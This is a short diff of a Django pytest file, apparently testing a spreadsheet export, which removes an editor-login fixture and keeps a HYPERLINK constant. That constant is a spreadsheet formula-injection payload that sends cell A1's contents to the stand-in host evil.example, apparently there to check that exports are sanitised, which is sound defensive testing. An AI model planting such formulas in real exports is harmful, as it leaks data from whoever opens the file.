@@ -5,8 +5,6 @@ import io
 from http import HTTPStatus
 
 import pytest
-from django.contrib.auth import get_user_model
-from django.contrib.auth.models import Group
 from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
@@ -16,14 +14,6 @@ from tests.home.test_contact import POST
 pytestmark = pytest.mark.django_db
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Нажмите")'
-
-
-@pytest.fixture
-def editor_client(client):
-    user = get_user_model().objects.create_user(username="secretary", password="secret-123", is_staff=True)
-    user.groups.add(Group.objects.get(name="Editors"))
-    client.force_login(user)
-    return client
 
 
 @pytest.fixture
